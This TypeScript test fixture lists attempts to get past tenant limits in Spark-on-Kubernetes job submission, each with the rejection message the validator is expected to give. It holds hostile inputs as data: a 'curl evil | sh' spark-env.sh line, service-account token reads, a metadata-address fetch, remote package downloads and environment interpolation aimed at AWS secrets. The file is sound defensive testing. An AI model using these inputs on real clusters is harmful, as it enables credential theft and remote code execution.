import { withProperties, withTemplate, type LimitBypass } from './limit-bypass.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

/** Bypasses with spark-submit, which runs on the worker: some of native submission, and those that target the worker. */
export const SPARK_SUBMIT: readonly LimitBypass[] = [
  { about: 'an image of another registry', fields: { image: 'evil/spark:4.1' }, message: /is not an image/ },
  {
    about: "another team's service account",
    fields: { driver: { serviceAccount: 'admin' } },
    message: /"admin" is not a service account/,
  },
  withTemplate(
    'a path of the node',
    'executor',
    { volumes: [{ name: 'x', hostPath: { path: '/' } }] },
    /"\/" is a path of the node/,
  ),
  withTemplate(
    "the node's network, with the YAML 1.1 word yes",
    'driver',
    { hostNetwork: 'yes' },
    /shares the node's network/,
  ),
  {
    about: "the worker's token as the application",
    fields: { mainApplicationFile: TOKEN, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    message: /is a file of the worker/,
  },
  {
    about: "the worker's token as a file",
    fields: { deps: { files: [`file://${TOKEN}`] }, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    message: /is a file of the worker/,
  },
  {
    about: "the worker's token as a jar, with FILE: in capitals",
    fields: { deps: { jars: [`FILE:${TOKEN}`] }, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    message: /is a file of the worker/,
  },
  withProperties(
    "the worker's token for the driver",
    { 'spark.kubernetes.authenticate.driver.oauthTokenFile': TOKEN },
    /sets other credentials/,
  ),
  withProperties(
    "the worker's certificates for the driver",
    { 'spark.kubernetes.authenticate.driver.clientKeyFile': '/etc/key' },
    /sets other credentials/,
  ),
  withProperties(
    'a pod template that is a file of the worker',
    { 'spark.kubernetes.driver.podTemplateFile': '/tmp/privileged.yaml' },
    /names a file that can't be checked/,
  ),
  withProperties(
    'a pod template at a URL',
    { 'spark.kubernetes.executor.podTemplateFile': 'https://evil/pod.yaml' },
    /names a file that can't be checked/,
  ),
  withProperties('a file of the worker as krb5.conf', { 'spark.kubernetes.kerberos.krb5.path': TOKEN }, /names a file/),
  withProperties(
    "the worker's Kerberos credentials",
    { 'spark.kerberos.principal': 'worker', 'spark.kerberos.keytab': '/etc/worker.keytab' },
    /its own Kerberos credentials/,
  ),
  {
    about: 'code that the worker downloads',
    fields: { deps: { packages: ['evil:steps:1'], repositories: ['https://evil'] } },
    message: /makes the worker fetch code/,
  },
  withProperties(
    'settings for Ivy on the worker',
    { 'spark.jars.ivySettings': '/tmp/ivy.xml' },
    /makes the worker fetch code/,
  ),
  withProperties(
    'code that changes the driver pod',
    { 'spark.kubernetes.driver.pod.featureSteps': 'evil.Step' },
    /loads code that changes pods/,
  ),
  withProperties(
    'a pod group template',
    { 'spark.kubernetes.scheduler.volcano.podGroupTemplateFile': '/tmp/x.yaml' },
    /names a file/,
  ),
  withProperties(
    'an API server with any certificate',
    { 'spark.kubernetes.trust.certificates': 'true' },
    /send its credentials to any server/,
  ),
  {
    about: 'a script that spark-submit runs on the worker',
    fields: { sparkConfFiles: { 'spark-env.sh': 'curl evil | sh' } },
    message: /would be read by spark-submit on the worker/,
  },
  {
    about: "options of the worker's JVM",
    fields: { sparkConfFiles: { 'java-opts': '-javaagent:/tmp/evil.jar' } },
    message: /would be read by spark-submit on the worker/,
  },
  {
    about: "log appenders of the worker's JVM",
    fields: { sparkConfFiles: { 'log4j2.properties': 'appender.x.type=File' } },
    message: /would be read by the worker/,
  },
  {
    about: "a Hadoop configuration for the worker's JVM",
    fields: { hadoopConfFiles: { 'core-site.xml': '<configuration/>' } },
    message: /would be read by the worker/,
  },
  {
    about: 'a store that the worker opens with its own credentials at an endpoint of the batch',
    fields: {
      mainApplicationFile: 's3a://mine/job.jar',
      sparkConf: { 'spark.hadoop.fs.s3a.endpoint': 'https://evil' },
    },
    message: /with which the worker itself would open "s3a:\/\/mine\/job.jar"/,
  },
  withProperties(
    "the worker's Hadoop credentials",
    { 'spark.hadoop.hadoop.security.authentication': 'kerberos' },
    /act with its own credentials/,
  ),
  {
    about: 'an option in place of a file',
    fields: { deps: { jars: ['--conf'] } },
    message: /is an option for spark-submit/,
  },
  {
    about: 'a store that the worker lists with its own credentials',
    fields: { deps: { jars: ['s3a://other-team/*'] } },
    message: /"s3a:\/\/other-team\/\*" is not a file .* that limits.submitFiles of tenant risk allows/,
  },
  {
    about: 'a listed store, with .. in the path',
    fields: { deps: { jars: ['s3a://risk-jars/../other-team/*'] } },
    message: /is not a file for the JVM that submits/,
  },
  {
    about: 'a listed store, with an encoded path',
    fields: { deps: { jars: ['s3a://risk-jars/%2e%2e/x'] } },
    message: /is not a file for the JVM that submits/,
  },
  {
    about: 'an address inside the network of the worker',
    fields: { deps: { files: ['webhdfs://169.254.169.254:80/latest/*'] } },
    message: /is not a file for the JVM that submits/,
  },
  {
    about: 'an archive of the worker',
    fields: { deps: { files: ['har:///etc/nosuch.har/*'] } },
    message: /is not a file for the JVM that submits/,
  },
  withProperties(
    "the worker's environment",
    {
      'spark.kubernetes.kerberos.tokenSecret.name': 'risk-login',
      'spark.kubernetes.kerberos.tokenSecret.itemKey': '${env:AWS_SECRET_ACCESS_KEY}',
    },
    /itemKey"?\]?: contains "\$\{", and Spark would replace it on the worker/,
  ),
  withProperties(
    "the worker's environment, told by the API server",
    { 'spark.kubernetes.driver.service.ipFamilies': '${env:HOME}' },
    /contains "\$\{"/,
  ),
  withProperties(
    "the worker's system properties in a key",
    { 'spark.kubernetes.driver.label.${system:user.name}': 'x' },
    /contains "\$\{"/,
  ),
  {
    about: "the worker's environment in a field",
    fields: { driver: { env: { HOME_OF_WORKER: '${env:HOME}' } } },
    message: /driver.env.HOME_OF_WORKER: contains "\$\{"/,
  },
  withProperties('more executors', { 'spark.executor.instances': '400' }, /may be 400 at a time/),
];
